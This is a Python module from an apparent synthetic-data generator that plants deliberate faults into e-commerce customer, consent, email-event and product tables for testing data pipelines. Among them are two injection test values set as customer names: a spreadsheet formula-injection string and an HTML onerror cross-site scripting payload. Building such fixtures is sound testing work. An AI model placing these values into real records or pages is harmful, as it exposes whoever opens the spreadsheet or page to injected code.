"""Faults in profiles, their consent and what is known of their mail."""

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from segkit_generators import arrow
from segkit_generators.faults.edit import added, changed, copies, ids_of, is_among
from segkit_generators.faults.fault import Fault, Planted, Tables
from segkit_generators.streams import Bools, Ints
from segkit_generators.world import World

FORMULA = '=HYPERLINK("https://example.com/"&A1,"klik")'
MARKUP = '<img src=x onerror="alert(1)">'


def subscribed(tables: Tables) -> Bools:
    """Profiles whose last word on mail is yes."""
    consents = tables["consents"].select(["profile_id", "status", "occurred_at"]).to_pandas()
    last = consents.sort_values("occurred_at", kind="stable").drop_duplicates("profile_id", keep="last")
    return is_among(tables["profiles"], "profile_id", pa.array(last.loc[last["status"] == "subscribed", "profile_id"]))


def ordered_twice(tables: Tables) -> Bools:
    """Profiles with two orders or more."""
    counted = tables["orders"].group_by("profile_id").aggregate([("order_id", "count")]).to_pandas()
    return is_among(tables["profiles"], "profile_id", pa.array(counted.loc[counted["order_id_count"] > 1, "profile_id"].dropna()))


def split_by_case(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """One person twice: the same address in capitals, with every second order on the second profile."""
    profiles, orders = tables["profiles"], tables["orders"]
    ids, old = world.numbered("CX", rows), profiles["profile_id"].combine_chunks().take(pa.array(rows))
    capital = pc.utf8_upper(profiles["email"].take(pa.array(rows)))
    twins = copies(profiles, rows, profile_id=ids, email=capital, external_id=world.numbered("WEB-X", rows))
    owned = orders.select(["profile_id", "ordered_at"]).to_pandas().sort_values("ordered_at", kind="stable")
    every_second = (owned.groupby("profile_id").cumcount() % 2 == 1).sort_index().to_numpy(dtype=bool, na_value=False)
    moved = np.flatnonzero(is_among(orders, "profile_id", old) & every_second)
    twin = pc.index_in(orders["profile_id"].take(pa.array(moved)).combine_chunks(), value_set=old)
    cells = {"profile_id": ids.take(twin), "email_at_order": capital.combine_chunks().take(twin)}
    return {**tables, "profiles": added(profiles, twins), "orders": changed(orders, moved, **cells)}, {"profiles": ids}


def mark_staff(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """People of the shop who order there themselves."""
    profiles = tables["profiles"]
    return {**tables, "profiles": changed(profiles, rows, is_staff=True)}, {"profiles": ids_of(profiles, rows)}


def name_with_formula(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """A first name that a spreadsheet would run."""
    profiles = tables["profiles"]
    return {**tables, "profiles": changed(profiles, rows, first_name=FORMULA)}, {"profiles": ids_of(profiles, rows)}


def name_with_markup(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """A last name that a web page would run."""
    profiles = tables["profiles"]
    return {**tables, "profiles": changed(profiles, rows, last_name=MARKUP)}, {"profiles": ids_of(profiles, rows)}


def suppress_too(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """Subscribed and suppressed at the same moment: the address bounced, and nobody took back the consent."""
    ids = ids_of(tables["profiles"], rows)
    of_them = np.flatnonzero(is_among(tables["consents"], "profile_id", ids))  # in order of time
    last = pd.Series(of_them).groupby(tables["consents"]["profile_id"].to_pandas()[of_them].to_numpy()).last().to_numpy()
    cells = {"status": "suppressed", "suppression_reason": "hard_bounce", "method": "mailer", "opt_in_level": None}
    more = copies(tables["consents"], last, **cells)
    return {**tables, "consents": added(tables["consents"], more)}, {"consents": ids}


def opened(tables: Tables) -> Bools:
    """Mails that were opened, by whatever."""
    return np.asarray(pc.equal(tables["email_events"]["event_type"], "opened"))


def forget_who_opened(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """Opens of before the mail system could tell a proxy from a person: who opened is unknown, which is not nobody."""
    events = tables["email_events"]
    opens = np.flatnonzero(opened(tables))
    first = opens[np.argsort(np.asarray(events["occurred_at"].cast(pa.int64()))[opens], kind="stable")][: len(rows)]
    ids = ids_of(events, first)
    return {**tables, "email_events": changed(events, first, is_machine_open=None, machine_open_basis=None)}, {"email_events": ids}


def invent(world: World, tables: Tables, rows: Ints, rng: np.random.Generator) -> Planted:
    """Products that a script made up."""
    products, items = tables["products"], tables["order_items"]
    ids, titles = ids_of(products, rows), arrow.text([f"Product {row}" for row in rows])
    sold = np.flatnonzero(is_among(items, "product_id", ids))
    which = pc.index_in(items["product_id"].take(pa.array(sold)).combine_chunks(), value_set=ids)
    return {
        **tables, "products": changed(products, rows, title=titles), "order_items": changed(items, sold, title=titles.take(which)),
    }, {"products": ids}  # fmt: skip


FAULTS = {
    "case_duplicates": Fault("one person as two profiles, the address once in capitals", 0.02, ordered_twice, split_by_case, of="profiles"),
    "staff_orders": Fault("people of the shop among its customers", 0.005, ordered_twice, mark_staff, of="profiles"),
    "formula_names": Fault("first names that a spreadsheet would run", 0.002, None, name_with_formula, of="profiles"),
    "html_names": Fault("last names that a web page would run", 0.002, None, name_with_markup, of="profiles"),
    "consent_and_suppression": Fault("subscribed and suppressed at once", 0.02, subscribed, suppress_too, of="profiles"),
    "opens_without_flag": Fault("early opens, by a person or by a machine", 0.3, opened, forget_who_opened, of="email_events"),
    "invented_products": Fault("a catalogue of Product 0, Product 1, ...", 1.0, None, invent, of="products"),
}
